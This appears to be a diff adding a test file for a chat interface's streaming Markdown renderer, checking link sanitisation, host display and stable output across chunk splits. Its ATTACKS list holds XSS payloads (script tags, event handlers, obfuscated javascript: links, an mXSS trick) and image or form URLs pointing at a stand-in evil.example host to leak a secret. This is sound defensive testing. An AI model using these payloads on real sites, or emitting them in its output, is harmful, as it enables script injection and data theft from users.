@@ -1,0 +1,165 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { hostOf, safeUrl, saysHost } from "../../static/chat/links.js";
+import { Markdown } from "../../static/chat/markdown.js";
+import { place } from "./dom.js";
+
+/** @param {string[]} chunks */
+function rendered(chunks) {
+  const root = place();
+  /** @type {string[]} */
+  const blocks = [];
+  const markdown = new Markdown(root, (code, language) => blocks.push(`${language}:${code.textContent}`));
+  for (const chunk of chunks) markdown.write(chunk);
+  markdown.finish();
+  return { root, blocks };
+}
+
+/** @param {string} text @param {number} at */
+const split = (text, at) => [text.slice(0, at), text.slice(at)];
+
+const ATTACKS = [
+  "<script>window.__pwned=1</script>",
+  "<img src=x onerror=window.__pwned=1>",
+  "<svg/onload=window.__pwned=1>",
+  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
+  "<form action=//evil.example><input name=q></form>",
+  "<style>@import '//evil.example';</style><meta http-equiv=refresh content='0;//evil.example'>",
+  "<base href=//evil.example><link rel=prefetch href=//evil.example>",
+  "[go](javascript:alert(1))",
+  "[go](JaVaScRiPt:alert(1))",
+  "[go](java\tscript:alert(1))",
+  "[go](\u0001javascript:alert(1))",
+  "[go](&#106;avascript:alert(1))",
+  "[go](&#x6A;avascript&colon;alert(1))",
+  "[go](data:text/html,<script>alert(1)</script>)",
+  "[go](vbscript:msgbox(1))",
+  "[go](file:///etc/passwd)",
+  "[go](//evil.example)",
+  "[go](/accounts/signout/)",
+  "[go](blob:https://evil.example/1)",
+  "![x](https://evil.example/?q=SECRET)",
+  "![x](javascript:alert(1))",
+  "![](data:image/svg+xml,<svg onload=alert(1)>)",
+  "[![x](https://evil.example/a.png)](javascript:alert(1))",
+  "[x][1]\n\n[1]: javascript:alert(1)",
+  "```html\n<script>alert(1)</script>\n```",
+  '```" onmouseover="alert(1)\nx\n```',
+  "$$\\href{javascript:alert(1)}{x}$$",
+  "<javascript:alert(1)>",
+  "https://evil.example/<script>alert(1)</script>",
+  "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n",
+  '[a](https://a.example "><img src=x onerror=alert(1)>")',
+];
+const ATTRIBUTES = new Set(["href", "target", "rel", "dir", "type", "disabled", "checked", "start", "tabindex"]);
+
+for (const attack of ATTACKS) {
+  test(`harmless, whole and split at every place: ${JSON.stringify(attack)}`, () => {
+    for (let at = 0; at <= attack.length; at++) {
+      for (const chunks of [split(attack, at), [`- > ${attack.slice(0, at)}`, `${attack.slice(at)}\n`]]) {
+        for (const element of rendered(chunks).root.all) {
+          for (const [name, value] of Object.entries(element.attributes)) {
+            assert.ok(ATTRIBUTES.has(name), name);
+            if (name === "href") assert.match(value, /^(https?:\/\/|mailto:)/);
+          }
+          if (!element.attributes.href) continue;
+          assert.equal(element.attributes.rel, "noopener noreferrer nofollow");
+          assert.equal(element.attributes.target, "_blank");
+        }
+      }
+    }
+  });
+}
+
+const TEXT = `# Title
+
+Some *soft* and **strong** words, \`code\`, ~~gone~~, a [link](https://example.org/a?b=1) and
+a second line. 😀
+
+1. one
+2. two
+   - deep
+   - deeper
+
+> said
+
+\`\`\`js
+const a = 1 < 2;
+\`\`\`
+
+| a | b |
+|---|---|
+| 1 | **2** |
+
+---
+End.`;
+
+test("the same text gives the same page, wherever its chunks are cut", () => {
+  const whole = rendered([TEXT]);
+  assert.deepEqual(whole.blocks, ["js:const a = 1 < 2;"]);
+  assert.equal(rendered([...TEXT]).root.outline, whole.root.outline);
+  for (let at = 0; at <= TEXT.length; at++) {
+    // A character outside the basic plane never comes in halves: each event's text is whole UTF-8.
+    if (/[\ud800-\udbff]$/.test(TEXT.slice(0, at))) continue;
+    assert.equal(rendered(split(TEXT, at)).root.outline, whole.root.outline, `cut at ${at}`);
+  }
+});
+
+test("what was written is never taken back: text only grows", () => {
+  const root = place();
+  const markdown = new Markdown(root);
+  let before = "";
+  for (const character of TEXT) {
+    markdown.write(character);
+    assert.ok(root.textContent.startsWith(before), `${before} became ${root.textContent}`);
+    before = root.textContent;
+  }
+});
+
+test("a table has a head and a body", () => {
+  const { outline } = rendered(["| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n"]).root;
+  assert.equal(outline.match(/<thead>/g)?.length, 1);
+  assert.equal(outline.match(/<tbody>/g)?.length, 1);
+  assert.equal(outline.match(/<th>/g)?.length, 2);
+  assert.equal(outline.match(/<td>/g)?.length, 4);
+});
+
+test("a block of code that the end cut short is a block all the same", () => {
+  assert.deepEqual(rendered(["```py\nprint(1)"]).blocks, ["py:print(1)"]);
+});
+
+test("an image is a link that names its host, and loads nothing", () => {
+  const { root } = rendered(["![a cat](https://cats.example/c.png)"]);
+  assert.equal(root.textContent, "a catcats.example");
+  assert.ok(root.all.every(({ tagName }) => tagName !== "IMG"));
+});
+
+test("a link whose text names another host shows where it really goes", () => {
+  assert.equal(rendered(["[https://bank.example](https://evil.example/x)"]).root.textContent, "https://bank.exampleevil.example");
+  assert.equal(rendered(["[evil.example](https://evil.example/x)"]).root.textContent, "evil.example");
+  assert.equal(rendered(["see https://example.org/a ok"]).root.textContent, "see https://example.org/a ok");
+});
+
+test("a host is shown as the browser looks it up", () => {
+  assert.equal(hostOf(/** @type {URL} */ (safeUrl("https://аpple.com/"))), "xn--pple-43d.com");
+  assert.equal(saysHost("https://apple.com.evil.example", new URL("https://apple.com")), false);
+  assert.equal(hostOf(/** @type {URL} */ (safeUrl("mailto:a@b.example"))), "a@b.example");
+});
+
+test("only absolute http, https and mailto addresses are links", () => {
+  for (const good of ["https://a.example", "http://a.example/?a=1&amp;b=2", "mailto:a@b.example", "HTTPS://A.EXAMPLE"]) {
+    assert.ok(safeUrl(good), good);
+  }
+  assert.equal(safeUrl("http://a.example/?a=1&amp;b=2")?.search, "?a=1&b=2");
+  for (const bad of ["", "a.example", "/x", "//a.example", "javascript:1", "ftp://a", "&#x110000;", "data:,x"]) {
+    assert.equal(safeUrl(bad), null, bad);
+  }
+});
+
+test("nesting without end harms nothing", () => {
+  for (const deep of ["> ".repeat(200), "- ".repeat(200), "**_".repeat(100), `${"[".repeat(300)}x`]) {
+    const { root } = rendered([`${deep}text\n\nafter`]);
+    assert.match(root.textContent, /text[^]*after/);
+  }
+});
